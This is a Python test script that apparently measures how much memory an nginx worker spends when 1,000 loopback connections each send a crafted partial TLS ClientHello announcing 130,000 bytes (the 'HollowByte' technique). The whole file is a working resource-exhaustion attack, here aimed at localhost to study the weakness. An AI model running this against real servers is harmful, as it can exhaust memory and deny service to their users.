# SPDX-License-Identifier: Apache-2.0
"""attack.py PORT PID: what HollowByte costs the nginx worker PID on loopback.

Prints "BEFORE DURING AFTER", its private memory in kB. 1,000 connections each send 39 bytes: a TLS record with the
start of a ClientHello that announces 130,000 bytes. They are held until the worker's memory is steady, and then closed.
"""

import os
import resource
import socket
import sys
import time

import worker

CONNECTIONS = 1000
ANNOUNCED = 130_000
DEADLINE = 20.0  # Seconds for the worker to take in, or let go of, all connections.


def first_bytes():
    """The first 39 bytes of a ClientHello: record header, handshake header, version, random."""
    hello = b"\x03\x03" + os.urandom(28)
    handshake = b"\x01" + ANNOUNCED.to_bytes(3, "big") + hello
    record = b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake
    assert len(record) == 39
    return record


def wait_until(condition, problem):
    deadline = time.monotonic() + DEADLINE
    while not condition():
        if time.monotonic() > deadline:
            sys.exit(f"attack.py: {problem} within {DEADLINE:.0f} s")
        time.sleep(0.02)


def steady_memory(pid):
    """The worker's memory once it has been the same, to 64 kB, for half a second."""
    samples = []

    def steady():
        samples.append(worker.private_kilobytes(pid))
        last = samples[-25:]
        return len(last) == 25 and max(last) - min(last) <= 64

    wait_until(steady, "the worker's memory was not steady")
    return samples[-1]


def main(port, pid):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = CONNECTIONS + 64
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))

    sockets_before = worker.sockets(pid)
    before = steady_memory(pid)
    connections = []
    for _ in range(CONNECTIONS):
        connection = socket.create_connection(("127.0.0.1", port), timeout=10)
        connection.sendall(first_bytes())
        connections.append(connection)
    # The other clients come and go meanwhile: hence the slack of 8.
    taken = sockets_before + CONNECTIONS - 8
    wait_until(lambda: worker.sockets(pid) >= taken, "the worker had not taken the connections")
    during = steady_memory(pid)
    for connection in connections:
        connection.close()
    wait_until(lambda: worker.sockets(pid) <= sockets_before + 8, "the worker had not closed the connections")
    after = steady_memory(pid)
    print(before, during, after)


main(int(sys.argv[1]), int(sys.argv[2]))
